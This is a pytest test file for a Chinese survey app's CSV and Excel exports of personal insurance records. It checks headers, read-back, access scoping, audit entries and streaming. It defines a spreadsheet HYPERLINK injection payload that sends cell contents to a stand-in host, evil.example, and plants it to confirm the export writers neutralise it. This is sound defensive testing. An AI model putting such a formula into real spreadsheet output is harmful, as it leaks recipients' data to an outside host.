"""Exports of the 个人基础信息汇总表: exact CSV text, the workbook read back, formula injection
from every source, scope, the audit entry, and streaming without the store's cache."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile

import pytest
from conftest import TOWNSHIP_A, VILLAGE_A, VILLAGE_B, Auth, csrf_from, first_household
from helpers import new_id_number, submission
from openpyxl import load_workbook

from survey_app import clock, exports, grid, roster_load, spreadsheet, state
from survey_app.store import Store

BOM = "\ufeff"
HEADER = ("乡镇（街道）,村（社区）,户编号,户主姓名,门牌地址,状态,回执号,登记人,登记时间,"
          "最后修改人,审核状态,审核人,审核时间,"
          "人员情况,情况说明,姓名,公民身份号码,出生日期,性别,民族,联系电话,与户主关系,户口性质,户籍地址,现居住地址,"
          "缴费人员类别,特殊人群类别,职工基本养老保险,职工基本医疗保险,失业保险,工伤保险,生育保险,"
          "城乡居民基本养老保险,城乡居民基本医疗保险,养老保险缴费档次（选档）,缴费方式,未参保原因,"
          "原因说明,备注")
COLUMNS = HEADER.split(",")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A DDE/hyperlink payload with quotes and a comma, so CSV quoting is exercised too.
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def register(app, body: dict) -> dict:
    """Register a person through the JSON API as the village's enumerator (own client)."""
    api = app.test_client()
    enumerator = Auth(api)
    enumerator.login("e001001")
    response = api.post("/api/v1/submissions", json=body, headers={"X-CSRFToken": enumerator.api_token()})
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def csv_rows(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(BOM.encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))


def sheet_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    return [["" if c.value is None else c.value for c in row] for row in sheet.iter_rows()]


def by_column(rows: list[list], title: str) -> list:
    index = rows[0].index(title)
    return [r[index] for r in rows[1:]]


def row_with(rows: list[list], title: str, value) -> dict:
    index = rows[0].index(title)
    found = [r for r in rows[1:] if r[index] == value]
    assert len(found) == 1, (title, value, len(found))
    return dict(zip(rows[0], found[0], strict=True))


def today() -> str:
    return clock.now().date().isoformat()


def minute(stamp: str) -> str:
    return dt.datetime.fromisoformat(stamp).astimezone(clock.zone()).strftime("%Y-%m-%d %H:%M")


# -- the CSV, exactly ---------------------------------------------------------------------------
def test_csv_has_the_exact_header_and_row_of_a_registered_person(app, auth, client, store):
    house = first_household(store, VILLAGE_A)
    saved = register(app, submission(house["ref"], name="张三丰", id_number="370403199005060017",
                                     remark="腿脚不便，由女儿代填, 已核实"))
    auth.login("township")
    response = client.get(f"/s/v/{VILLAGE_A}/export.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == \
        f'attachment; filename="canbao-{VILLAGE_A}-{today()}.csv"'
    text = response.get_data().decode("utf-8")
    lines = text.split("\r\n")
    assert lines[0] == BOM + HEADER
    assert lines[-1] == "" and "\n" not in "".join(lines)  # CRLF only, ending with one
    created = store.read(Store.village(VILLAGE_A)).get("persons", int(saved["id"].split(".")[1]))
    expected = (f"临城街道,临山村,{house['ref']},{house['head_name']},{house['address']},已登记,"
                f"{saved['receipt']},e001001,{minute(created['registered_at'])},e001001,待初审,,,,,"
                "张三丰,370403199005060017,1990-05-06,男,汉族,13912345678,子女,本地农业户口,"
                "临山村2组8号,临山村2组8号,一般城乡居民,,未参保,未参保,,,,已参保,已参保,300元/年,支付宝,,,"
                '"腿脚不便，由女儿代填, 已核实"')
    assert expected in lines
    persons = store.read(Store.village(VILLAGE_A)).all("persons")
    assert len(lines) == 1 + len(persons) + 1


def test_roster_people_are_pending_and_kept_with_their_household(auth, client, store):
    auth.login("township")
    rows = csv_rows(client.get(f"/s/v/{VILLAGE_A}/export.csv"))
    shard = store.read(Store.village(VILLAGE_A))
    house = shard.all("households")[0]
    first = min((p for p in shard.all("persons") if p["household"] == house["doc_id"]),
                key=lambda p: p["doc_id"])
    assert rows[1] == ["临城街道", "临山村", f"{VILLAGE_A}.{house['doc_id']}", house["head_name"],
                       house["address"], "待登记", *[""] * 9, first["answers"]["name"],
                       first["answers"]["id_number"], first["answers"]["birth_date"],
                       {"male": "男", "female": "女"}[first["answers"]["sex"]], "汉族", "",
                       "户主", *[""] * 17]
    refs = by_column(rows, "户编号")
    assert refs == sorted(refs, key=lambda r: int(r.split(".")[1]))  # households stay together


def test_who_registered_changed_and_reviewed_each_person_and_the_household_number(app, auth, client, store):
    """户编号 is the roster's number when it has one; 登记人/登记时间 stay with the first registration,
    最后修改人 follows each edit; 审核状态/审核人/审核时间 name both reviews, and never their comments."""
    house = first_household(store, VILLAGE_A)
    with store.transaction(Store.village(VILLAGE_A)) as shards:
        shards[Store.village(VILLAGE_A)].update("households", house["doc_id"], {"number": "0012"})
    returned_body = submission(house["ref"], name="孔退回", id_number=new_id_number())
    returned = register(app, returned_body)
    questioned = register(app, submission(house["ref"], name="孔存疑", id_number=new_id_number()))
    partial = register(app, {**submission(house["ref"], name="孔暂存", id_number=new_id_number()),
                             "ethnicity": "", "incomplete": True})
    office = app.test_client()
    Auth(office).login("township")
    token = Auth(office).api_token()
    edited = office.post("/api/v1/submissions", headers={"X-CSRFToken": token}, json={
        **returned_body, "uuid": "6f1c2c8e-1d0b-4f57-9a43-5d2f7c1e0a11", "person": returned["id"],
        "remark": "乡镇补录"})
    assert edited.status_code == 201
    for ref, action, comment in ((returned["id"], "return", "户籍地址写错了"),
                                 (questioned["id"], "approve", "")):
        assert office.post(f"/s/review/{ref}", data={"action": action, "comment": comment,
                                                      "csrf_token": token}).status_code == 302
    county = app.test_client()
    Auth(county).login("admin")
    question = {"action": "question", "comment": "与户口簿核对", "csrf_token": Auth(county).api_token()}
    assert county.post(f"/s/review/{questioned['id']}", data=question).status_code == 302

    auth.login("township")
    response = client.get(f"/s/v/{VILLAGE_A}/export.csv")
    rows = csv_rows(response)
    shard = store.read(Store.village(VILLAGE_A))
    people = {ref: shard.get("persons", int(ref.split(".")[1]))
              for ref in (returned["id"], questioned["id"], partial["id"])}
    titles = ("户编号", "状态", "登记人", "登记时间", "最后修改人", "审核状态", "审核人", "审核时间")

    def cells(name):
        found = row_with(rows, "姓名", name)
        return tuple(found[t] for t in titles)

    one, two = people[returned["id"]], people[questioned["id"]]
    assert cells("孔退回") == ("0012", "已登记", "e001001", minute(one["registered_at"]), "township", "退回",
                            "township", minute(one["review"]["at"]))
    assert cells("孔存疑") == ("0012", "已登记", "e001001", minute(two["registered_at"]), "e001001",
                            "初审通过；审核（县）：有疑问", "township；admin",
                            f"{minute(two['review']['at'])}；{minute(two['audit']['at'])}")
    assert cells("孔暂存") == ("0012", "未完成", "", "", "e001001", "", "", "")
    text = response.get_data().decode("utf-8")
    assert "户籍地址写错了" not in text and "与户口簿核对" not in text  # no free text of reviewers


def test_registration_time_of_a_roster_person_is_when_they_were_registered(app, auth, client, store):
    roster = store.read(Store.village(VILLAGE_A)).all("persons")[0]
    with store.transaction(Store.village(VILLAGE_A)) as shards:  # imported well before the visit
        shards[Store.village(VILLAGE_A)].update("persons", roster["doc_id"],
                                                {"created_at": "2026-10-01T08:00:00+08:00"})
    ref = f"{VILLAGE_A}.{roster['doc_id']}"
    register(app, {**submission(f"{VILLAGE_A}.{roster['household']}", name=roster["answers"]["name"],
                                id_number=roster["answers"]["id_number"], sex=roster["answers"]["sex"]),
                   "person": ref})
    auth.login("township")
    row = row_with(csv_rows(client.get(f"/s/v/{VILLAGE_A}/export.csv")), "公民身份号码",
                   roster["answers"]["id_number"])
    person = store.read(Store.village(VILLAGE_A)).get("persons", roster["doc_id"])
    assert row["状态"] == "已登记" and row["登记人"] == "e001001"
    assert row["登记时间"] == minute(person["updated_at"]) != "2026-10-01 08:00"


# -- the workbook, read back -----------------------------------------------------------------------
def test_workbook_reads_back_with_text_ids_and_a_bold_frozen_header(app, auth, client, store):
    register(app, submission(first_household(store, VILLAGE_A)["ref"], phone="0632-4412345"))
    auth.login("township")
    response = client.get(f"/s/v/{VILLAGE_A}/export.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == \
        f'attachment; filename="canbao-{VILLAGE_A}-{today()}.xlsx"'
    book = load_workbook(io.BytesIO(response.get_data()))
    sheet = book.active
    assert book.sheetnames == ["个人基础信息汇总表"]
    assert [c.value for c in sheet[1]] == COLUMNS
    assert all(c.font.b for c in sheet[1]) and not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    for title in ("公民身份号码", "联系电话", "户编号"):
        letter = spreadsheet.column_letter(COLUMNS.index(title) + 1)
        assert sheet.column_dimensions[letter].width >= 14
        for cell in sheet[letter][1:]:
            assert cell.value is None or isinstance(cell.value, str)
            if cell.value is not None:
                assert cell.number_format == "@"
    ids = by_column(sheet_rows(response), "公民身份号码")
    people = store.read(Store.village(VILLAGE_A)).all("persons")
    assert sorted(ids) == sorted(p["answers"]["id_number"] for p in people)
    assert all(isinstance(n, str) and len(n) == 18 for n in ids)
    assert "0632-4412345" in by_column(sheet_rows(response), "联系电话")
    assert "户主" in by_column(sheet_rows(response), "与户主关系")  # labels, not codes like "head"
    # the same cells as the CSV
    assert sheet_rows(response) == csv_rows(client.get(f"/s/v/{VILLAGE_A}/export.csv"))


# -- formula injection, from every source -----------------------------------------------------------
def upload_roster(client, village: str, rows: list[dict]) -> None:
    token = csrf_from(client.get(f"/s/v/{village}/roster").get_data(as_text=True))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    response = client.post(f"/s/v/{village}/roster", data={
        "csrf_token": token, "file": (io.BytesIO(out.getvalue().encode("utf-8")), "roster.csv")})
    assert response.status_code == 302, response.get_data(as_text=True)


@pytest.mark.parametrize("prefix", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_formula_like_values_come_out_neutralised_in_csv_and_xlsx(app, auth, client, store, prefix):
    planted = prefix + PAYLOAD
    # Forms strip leading white space, so a tab or CR prefix can reach the file only behind a
    # character XML cannot carry: the writers drop that character before they check the prefix.
    hidden = "\x01" + prefix + PAYLOAD
    api_number = new_id_number()
    register(app, submission(first_household(store, VILLAGE_A)["ref"], id_number=api_number,
                             hukou_address=planted, residence=hidden, remark=planted))
    auth.login("township")
    roster_number = new_id_number()
    upload_roster(client, VILLAGE_A, [{"户编号": "1", "户主姓名": "贾平安", "门牌地址": hidden,
                                       "姓名": "贾平安", "公民身份号码": roster_number,
                                       "与户主关系": "户主"}])
    # A name is checked as a name now, so a roster cannot plant one; a record kept from before
    # that rule still can be in the store, and the writers neutralise it all the same.
    old_number = new_id_number()
    roster_load.import_roster(store, VILLAGE_A, [{"head_name": planted.strip(), "address": "临山村旧档1号",
                                                  "members_count": 1, "members": [
                                                      {"name": hidden, "id_number": old_number,
                                                       "relationship": "head"}]}])
    stored = [p for p in store.read(Store.village(VILLAGE_A)).all("persons")
              if p["answers"]["id_number"] in (api_number, roster_number)]
    assert {p["answers"].get("remark") for p in stored} >= {planted.strip()}  # saved as sent
    for suffix in ("csv", "xlsx"):
        response = client.get(f"/s/v/{VILLAGE_A}/export.{suffix}")
        rows = csv_rows(response) if suffix == "csv" else sheet_rows(response)
        api_row = row_with(rows, "公民身份号码", api_number)
        roster_row = row_with(rows, "公民身份号码", roster_number)
        old_row = row_with(rows, "公民身份号码", old_number)
        for value, cell in [(planted, api_row["户籍地址"]), (hidden, api_row["现居住地址"]),
                            (planted, api_row["备注"]), (planted, old_row["户主姓名"]),
                            (hidden, roster_row["门牌地址"]), (hidden, old_row["姓名"])]:
            assert cell == "'" + value.strip().replace("\x01", ""), (suffix, cell)
        for row in rows:
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(TRIGGERS)), (suffix, cell)


# -- who may export what --------------------------------------------------------------------------
@pytest.mark.parametrize("path", [
    "/s/a/370403002/export.csv", "/s/a/370403002/export.xlsx",  # another township
    "/s/a/370403/export.csv",                                    # the district above
    f"/s/v/{VILLAGE_B}/export.csv", f"/s/v/{VILLAGE_B}/export.xlsx",
    f"/s/a/{VILLAGE_A}/export.csv",                              # a village is exported under /s/v/
    f"/s/v/{VILLAGE_A}/export.pdf",                              # no such format
])
def test_township_staff_get_404_outside_their_area_like_a_missing_page(auth, client, store, path):
    auth.login("township")
    before = len(store.read(Store.SYSTEM).all("audit"))
    code = re.search(r"/(?:a|v)/(\d+)/", path).group(1)
    outside = client.get(path)
    missing = client.get(path.replace(code, "9" * len(code)))
    assert outside.status_code == missing.status_code == 404
    assert page_shape(outside, code) == page_shape(missing, "9" * len(code))
    assert len(store.read(Store.SYSTEM).all("audit")) == before  # nothing left the system


def page_shape(response, code: str) -> str:
    """The page with the requested code and the CSRF token (it carries a timestamp) blanked."""
    text = response.get_data(as_text=True).replace(code, "?")
    return re.sub(r'name="csrf_token" value="[^"]*"', 'name="csrf_token"', text)


@pytest.mark.parametrize("path", ["/s/export.csv", "/s/export.xlsx", f"/s/v/{VILLAGE_A}/export.csv",
                                  f"/s/a/{TOWNSHIP_A}/export.xlsx"])
def test_enumerators_cannot_export_even_their_own_village(auth, client, path):
    auth.login("e001001")
    assert client.get(path).status_code == 404


def test_area_and_village_pages_link_both_formats_for_that_area(auth, client):
    auth.login("township")
    area = client.get("/s/").get_data(as_text=True)
    village = client.get(f"/s/v/{VILLAGE_A}").get_data(as_text=True)
    links = re.findall(r'<a class="btn" href="([^"]*export[^"]*)">([^<]+)</a>', area + village)
    assert links == [(f"/s/a/{TOWNSHIP_A}/export.csv", "导出 CSV"),
                     (f"/s/a/{TOWNSHIP_A}/export.xlsx", "导出 Excel"),
                     (f"/s/v/{VILLAGE_A}/export.csv", "导出 CSV"),
                     (f"/s/v/{VILLAGE_A}/export.xlsx", "导出 Excel")]
    for path, _label in links:
        assert client.get(path).status_code == 200


# -- the audit entry ------------------------------------------------------------------------------
def test_each_export_is_audited_before_the_first_byte_without_personal_numbers(app, auth, client, store):
    register(app, submission(first_household(store, VILLAGE_A)["ref"]))
    auth.login("township")
    before = len(store.read(Store.SYSTEM).all("audit"))
    response = client.get(f"/s/a/{TOWNSHIP_A}/export.csv", buffered=False)
    audit = store.read(Store.SYSTEM).all("audit")
    assert len(audit) == before + 1  # written while not one byte of the body was read
    entry = {k: v for k, v in audit[-1].items() if k not in ("doc_id", "at")}
    persons = sum(len(store.read(Store.village(v)).all("persons")) for v in grid.load(store).villages_under(
        TOWNSHIP_A))
    assert entry == {"user": "township", "action": "export_csv", "ref": TOWNSHIP_A, "format": "csv",
                     "villages": 3, "persons": persons}
    assert dt.datetime.fromisoformat(audit[-1]["at"]).tzinfo is not None
    assert len(csv_rows(response)) == persons + 1
    response.close()
    client.get("/s/export.xlsx").close()
    entries = store.read(Store.SYSTEM).all("audit")[before:]
    assert [e["action"] for e in entries] == ["export_csv", "export_xlsx"]
    numbers = {p["answers"][k] for v in grid.load(store).villages for p in
               store.read(Store.village(v["code"])).all("persons") for k in ("id_number", "phone")
               if p["answers"].get(k)}
    text = json.dumps(entries, ensure_ascii=False)
    assert not any(n in text for n in numbers)
    assert not re.search(r"\d{11}", text)  # no ID or mobile number, whole or in part


# -- areas of several villages ----------------------------------------------------------------------
def test_district_export_has_rows_from_every_village(auth, client, store):
    auth.login("admin")
    loaded = grid.load(store)
    for path, code in (("/s/export.csv", "370403"), ("/s/a/370403001/export.csv", "370403001")):
        response = client.get(path)
        assert response.status_code == 200
        assert response.headers["Content-Disposition"] == \
            f'attachment; filename="canbao-{code}-{today()}.csv"'
        rows = csv_rows(response)
        villages = loaded.villages_under(code)
        assert by_column(rows, "村（社区）") == [
            loaded.get(v)["name"] for v in villages for _ in store.read(Store.village(v)).all("persons")]
    rows = sheet_rows(client.get("/s/a/370403104/export.xlsx"))
    assert set(by_column(rows, "乡镇（街道）")) == {"周营镇"}
    assert set(by_column(rows, "村（社区）")) == {"周营村", "前王庄村", "后西村"}


def test_township_whole_area_export_keeps_to_the_area(auth, client):
    auth.login("township")
    rows = sheet_rows(client.get("/s/export.xlsx"))
    assert set(by_column(rows, "村（社区）")) == {"临山村", "沙河崖社区", "于庄村"}


def test_exports_read_villages_around_the_cache(auth, client, store, monkeypatch):
    """A city-wide export must not fill the server's shard cache with every village."""
    reads = []
    original = store.read

    def spy(name, *, cache=True):
        reads.append((name, cache))
        return original(name, cache=cache)

    auth.login("admin")
    monkeypatch.setattr(store, "read", spy)
    client.get("/s/export.xlsx").get_data()
    village_reads = [(n, c) for n, c in reads if n.startswith("villages/")]
    assert len(village_reads) == 21 and not any(c for _n, c in village_reads)


# -- the writers ----------------------------------------------------------------------------------
@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("\x00=1", "'=1"), ("\ufffe\x1f-2", "'-2"), ("a=1", "a=1"), ("", ""), (None, ""),
    (5, 5), (-5, -5), (-3.5, -3.5), ("临山村", "临山村"), ("'=x", "'=x"), (float("nan"), "nan"),
])
def test_safe_neutralises_text_and_keeps_numbers(value, expected):
    assert spreadsheet.safe(value) == expected


class CountingRows:
    def __init__(self, rows):
        self.rows, self.read = rows, 0

    def __iter__(self):
        for row in self.rows:
            self.read += 1
            yield row


COLS = [spreadsheet.Column("姓名", 10), spreadsheet.Column("公民身份号码", 20, text=True),
        spreadsheet.Column("人数", 6)]


@pytest.mark.parametrize("writer", [spreadsheet.csv_stream, spreadsheet.xlsx_stream])
def test_writers_send_the_first_bytes_before_reading_a_row(writer):
    rows = CountingRows([["a", "370403199005060017", 1]] * 50_000)
    pieces = writer(COLS, rows)
    assert next(pieces) and rows.read == 0
    assert sum(1 for _ in pieces) > 2 and rows.read == 50_000  # and then in pieces, not at once


@pytest.mark.parametrize("zip64", [False, True])
def test_workbook_writer_escapes_text_and_keeps_numbers(zip64):
    rows = [["<b>&amp;\x00", "370403199005060017", 3], ["_x0041_", "0632-4412345", -2.5],
            ["  两端空格 ", "", None], ["第一行\n第二行", "X", 0]]
    data = b"".join(spreadsheet.xlsx_stream(COLS, rows, sheet_name="表", zip64=zip64))
    assert sheet_is_zip64(data) == zip64
    package = zipfile.ZipFile(io.BytesIO(data))
    assert package.testzip() is None
    assert package.namelist() == ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                                  "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"]
    assert all(info.flag_bits & 0x08 for info in package.infolist())  # sizes follow each part
    xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "_x005F_x0041_" in xml  # Excel would read a bare _x0041_ as "A"
    sheet = load_workbook(io.BytesIO(data)).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["<b>&amp;", "370403199005060017", 3], ["_x005F_x0041_", "0632-4412345", -2.5],
        ["  两端空格 ", None, None], ["第一行\n第二行", "X", 0]]
    assert sheet["C2"].data_type == "n" and sheet["B2"].data_type == "s"


def sheet_is_zip64(data: bytes) -> bool:
    """Whether the sheet's local header carries a ZIP64 extra field (id 0x0001)."""
    offset = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml").header_offset
    name_length, extra_length = int.from_bytes(data[offset + 26:offset + 28], "little"), \
        int.from_bytes(data[offset + 28:offset + 30], "little")
    extra = data[offset + 30 + name_length:offset + 30 + name_length + extra_length]
    return extra[:2] == b"\x01\x00"


def test_only_an_export_of_a_million_people_needs_zip64(app, store):
    """Excel offers to "repair" a small workbook written with ZIP64, so it is used only when needed."""
    with app.app_context():
        definition = state.registration_form()
    loaded = grid.load(store)
    for people, expected in ((600_000, False), (1_100_000, True)):
        data = b"".join(exports.stream("xlsx", store, loaded, definition, [VILLAGE_A], people))
        assert sheet_is_zip64(data) == expected
        assert load_workbook(io.BytesIO(data)).active.max_row > 1


def test_csv_writer_quotes_and_neutralises():
    rows = [["a,b", "370403199005060017", 3], ['说"好"', "\r=1", -1]]
    text = b"".join(spreadsheet.csv_stream(COLS, rows)).decode("utf-8")
    assert text == (BOM + "姓名,公民身份号码,人数\r\n" + '"a,b",370403199005060017,3\r\n'
                    + '"说""好""","\'\r=1",-1\r\n')


def test_file_names_and_columns_follow_the_definition(app):
    assert exports.filename("370403001", "csv", dt.date(2026, 11, 21)) == "canbao-370403001-2026-11-21.csv"
    assert exports.area_label(["370403001", "370403002"]) == "370403001_370403002"
    with app.app_context():
        cols = exports.columns(state.registration_form())
    assert [c.title for c in cols] == COLUMNS
    assert [c.title for c in cols if c.text] == ["户编号", "公民身份号码", "联系电话"]
